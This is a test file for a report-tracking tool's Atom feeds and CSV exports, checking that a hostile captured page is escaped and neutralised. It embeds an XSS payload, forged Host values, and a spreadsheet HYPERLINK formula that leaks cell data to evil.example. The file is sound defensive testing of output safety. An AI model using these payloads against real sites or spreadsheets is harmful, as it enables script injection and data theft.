import { toCsv } from '../../shared/domain/csv.js';
import type { APIGatewayProxyEventV2 } from 'aws-lambda';
import { createApiHandler } from '../../functions/api/api-handler.js';
import type { ApiDependencies } from '../../functions/api/api-dependencies.js';
import { startApiServer, type ApiServer } from '../../local/runtime/api-server.js';
import { LocalSubscriptionGateway } from '../../local/runtime/subscription-notifier.js';
import { DynamoRevisionStore } from '../../shared/adapters/dynamodb/dynamo-revision-store.js';
import { DynamoSubscriptionStore } from '../../shared/adapters/dynamodb/dynamo-subscription-store.js';
import { S3SnapshotStore } from '../../shared/adapters/s3/s3-snapshot-store.js';
import { auditTerms, auditToCsv } from '../../shared/domain/audit.js';
import type { Document } from '../../shared/domain/document.js';
import { extract } from '../../shared/domain/extract.js';
import { ProvenanceIndex } from '../../shared/domain/provenance/provenance-index.js';
import { editionPairs, removalLedger, removalLedgerToCsv } from '../../shared/domain/provenance/removal-ledger.js';
import { versionSentences } from '../../shared/domain/provenance/version-sentences.js';
import { localLambdaContext } from '../../shared/runtime/lambda-handler.js';
import { addWatch } from '../../shared/use-cases/add-watch.js';
import { recordRevision } from '../../shared/use-cases/record-revision.js';
import { DEFAULT_TRACKER_SETTINGS } from '../../shared/use-cases/tracker-dependencies.js';
import { quietObservability } from '../api/api-fixture.js';
import { loadCorpusPage } from '../support/corpus.js';
import { FORMULA_HEADING, FORMULA_SENTENCE, HOSTILE_TITLE, hostilePageHtml } from '../support/hostile-page.js';
import { startLocalAws, type LocalAws } from '../support/local-aws.js';
import { htmlElementsIn, parseStrictAtom } from '../support/strict-atom.js';

/**
 * Output safety (issue 17 §4): what redline writes from captured text is safe where it lands. A real report page
 * turned hostile (test/support/hostile-page.ts) is captured; its Atom feeds pass a strict parser with no markup in
 * any title, carry an author and a configured id whatever Host the request names, and link to the web UI; its CSV
 * exports hold no cell a spreadsheet would run as a formula.
 */
const URL_2023 = 'https://www.state.gov/reports/2023-country-reports-on-human-rights-practices/kazakhstan/';
const URL_2024 = 'https://www.state.gov/reports/2024-country-reports-on-human-rights-practices/kazakhstan/';
const NOW = new Date('2025-06-01T00:00:00.000Z');
const WATCHED_AT = new Date('2025-05-01T00:00:00.000Z');

let aws: LocalAws;
let server: ApiServer;
let handler: ReturnType<typeof createApiHandler>;
let hostile: Document;
let real: Document;
let emptyPage: string;

beforeAll(async () => {
  aws = await startLocalAws();
  let clock = WATCHED_AT;
  const dependencies: ApiDependencies = {
    revisions: new DynamoRevisionStore({ client: aws.dynamodb, tableName: aws.tableName, clock: () => NOW }),
    snapshots: new S3SnapshotStore({ client: aws.s3, bucket: aws.bucketName }),
    subscriptions: new DynamoSubscriptionStore({ client: aws.dynamodb, tableName: aws.tableName }),
    subscriptionGateway: new LocalSubscriptionGateway(),
    now: () => clock,
    settings: DEFAULT_TRACKER_SETTINGS,
    api: { feedIdPrefix: 'tag:newsroom.example,2025:redline' },
  };
  real = extract(loadCorpusPage('kazakhstan', 2023), { url: URL_2023 });
  hostile = extract(hostilePageHtml('kazakhstan', 2023), { url: URL_2023 });
  const page = (await addWatch(dependencies, { url: URL_2023 })).page.page;
  emptyPage = (await addWatch(dependencies, { url: URL_2024 })).page.page;
  for (const [index, document] of [real, hostile].entries()) {
    const stored = await dependencies.snapshots.putDocument(page, document);
    const capturedAt = new Date(Date.parse('2025-05-10T00:00:00.000Z') + index * 3_600_000).toISOString();
    const outcome = await recordRevision(dependencies, { page, documentKey: stored.key, capturedAt });
    expect(outcome.outcome).toBe('recorded');
  }
  clock = NOW;
  handler = createApiHandler(dependencies, quietObservability());
  server = await startApiServer({ handler });
}, 120_000);

afterAll(async () => {
  await server?.close();
  await aws?.close();
});

const FEEDS = [
  '/feeds/all.atom',
  '/feeds/pages/hrr.kazakhstan.2023.atom',
  '/feeds/series/hrr~kazakhstan.atom',
  '/feeds/pages/hrr.kazakhstan.2024.atom',
];

async function get(path: string, headers: Record<string, string> = {}) {
  const response = await fetch(`${server.url}${path}`, { headers });
  return { status: response.status, text: await response.text() };
}

describe('Atom feeds', () => {
  it('every feed passes a strict Atom parser, with an author, a configured id, and no markup in any title', async () => {
    for (const path of FEEDS) {
      const answer = await get(path);
      expect([path, answer.status]).toEqual([path, 200]);
      const feed = parseStrictAtom(answer.text);
      expect(feed.authors?.map((author) => author.name)).toEqual(['redline']);
      expect(feed.id).toMatch(/^tag:newsroom\.example,2025:redline:(?:all|page:hrr\.kazakhstan\.202[34]|series:hrr%2Fkazakhstan)$/);
      expect([path, htmlElementsIn(feed.title), ...(feed.entries ?? []).map((entry) => htmlElementsIn(entry.title))].flat()).toEqual([path]);
    }
  });

  it('shows a hostile page title as text: escaped inside the html title, never as an element', async () => {
    const feed = parseStrictAtom((await get('/feeds/pages/hrr.kazakhstan.2023.atom')).text);
    const newest = feed.entries![0]!;
    expect(newest.title?.type).toBe('html');
    // A reader decodes the html title once: what it shows is the page's text itself.
    expect(htmlElementsIn(newest.title)).toEqual([]);
    expect(newest.title?.value).toContain('&quot;&gt;&lt;img src=x onerror=alert(1)&gt; ]]&gt; &amp; &lt;script&gt;');
    expect(hostile.title).toBe(HOSTILE_TITLE);
  });

  it('keeps its id and links whatever Host the request names', async () => {
    const honest = await get('/feeds/all.atom');
    const forged = await get('/feeds/all.atom', { host: 'attacker.invalid' });
    expect(forged.status).toBe(200);
    expect(forged.text).toBe(honest.text);
    expect(forged.text).not.toContain('attacker.invalid');
  });

  it('answers 400, not 500, when the request arrives on a domain no link can be made of', async () => {
    for (const domainName of ['bad host<>', 'evil.example/"><x', '']) {
      const event = {
        version: '2.0',
        routeKey: '$default',
        rawPath: '/feeds/all.atom',
        rawQueryString: '',
        headers: { host: domainName, 'x-forwarded-proto': 'javascript' },
        isBase64Encoded: false,
        requestContext: {
          http: { method: 'GET', path: '/feeds/all.atom', protocol: 'HTTP/1.1', sourceIp: '203.0.113.1', userAgent: 't' },
          domainName,
          stage: '$default',
        },
      } as unknown as APIGatewayProxyEventV2;
      const result = (await handler(event, localLambdaContext('api'))) as { statusCode: number };
      expect([domainName, result.statusCode]).toEqual([domainName, 400]);
    }
  });

  it('links each entry to the web UI page of its diff or revision, and those pages answer', async () => {
    const feed = parseStrictAtom((await get('/feeds/pages/hrr.kazakhstan.2023.atom')).text);
    const links = feed.entries!.map((entry) => entry.links![0]!.href);
    expect(links).toEqual([`${server.url}/ui/pages/hrr.kazakhstan.2023/diff?from=1&to=2`, `${server.url}/ui/pages/hrr.kazakhstan.2023/revisions/1`]);
    for (const link of links) expect([link, (await fetch(link!)).status]).toEqual([link, 200]);
    const alternate = feed.links?.find((link) => link.rel === 'alternate')?.href;
    expect(alternate).toBe(`${server.url}/ui/pages/hrr.kazakhstan.2023`);
  });

  it('dates an empty feed by when its page was watched, not 1970', async () => {
    const feed = parseStrictAtom((await get(`/feeds/pages/${emptyPage}.atom`)).text);
    expect(feed.entries ?? []).toEqual([]);
    expect(feed.updated).toBe(WATCHED_AT.toISOString());
  });
});

/** The cells of an RFC 4180 text whose quoted fields hold no line breaks (true of these exports). */
function csvCells(csv: string): string[][] {
  return csv
    .split('\r\n')
    .filter((line) => line.length > 0)
    .map((line) =>
      [...line.matchAll(/(?:^|,)("(?:[^"]|"")*"|[^,]*)/g)].map((match) => match[1]!.replace(/^"([\s\S]*)"$/, '$1').replaceAll('""', '"')),
    );
}

const FORMULA_START = /^[=+\-@\t\r]/;

describe('CSV exports of a hostile page', () => {
  it('the section audit neutralises a heading that starts like a formula', () => {
    const csv = auditToCsv(auditTerms([hostile], ['torture'], { by: 'section' }));
    const cells = csvCells(csv);
    expect(cells.flat().filter((cell) => FORMULA_START.test(cell))).toEqual([]);
    expect(cells.flat()).toContain(`'${FORMULA_HEADING}`);
    expect(csv).toContain(`"'=HYPERLINK(""https://evil.example/?leak=""&A1,""Prison and Detention Center Conditions"")"`);
  });

  it('the removal ledger neutralises a removed sentence and its heading', () => {
    const index = new ProvenanceIndex('series:hrr/kazakhstan');
    const ref = (page: string, edition: number) => ({
      page,
      seq: 1,
      edition,
      documentHash: `h${edition}`,
      capturedAt: `${edition + 1}-03-01T00:00:00.000Z`,
    });
    index.addVersion(ref('hrr.kazakhstan.2023', 2023), versionSentences(hostile));
    // The next edition, without the hostile text: the formula sentence is removed.
    const later = { ...real, edition: 2024 };
    index.addVersion(ref('hrr.kazakhstan.2024', 2024), versionSentences(later));
    const ledger = removalLedger(index, editionPairs(index, 2023, 2024));
    expect(ledger.sentences.map((sentence) => sentence.text)).toContain(FORMULA_SENTENCE);
    const cells = csvCells(removalLedgerToCsv(ledger.sentences)).flat();
    expect(cells.filter((cell) => FORMULA_START.test(cell))).toEqual([]);
    expect(cells).toContain(`'${FORMULA_SENTENCE}`);
    expect(cells).toContain(`'${FORMULA_HEADING}`);
  });

  it('keeps formatted decimals such as a change of -70.6 % as numbers, and neutralises anything else after a sign', () => {
    expect(toCsv([['-70.6', '+3', '-100', 12.5, -4]])).toBe('-70.6,+3,-100,12.5,-4\r\n');
    expect(toCsv([['-1+2', '-A1', '+cmd|x', '-', '@SUM(A1)']])).toBe(`"'-1+2","'-A1","'+cmd|x","'-","'@SUM(A1)"\r\n`);
  });

  it('leaves ordinary text and numbers as they were', () => {
    const csv = auditToCsv(auditTerms([real], ['torture'], { by: 'edition' }));
    expect(csv.startsWith('year,reports,word_count,count_torture,rate_torture\r\n2023,1,')).toBe(true);
    expect(csv).not.toContain("'");
  });
});
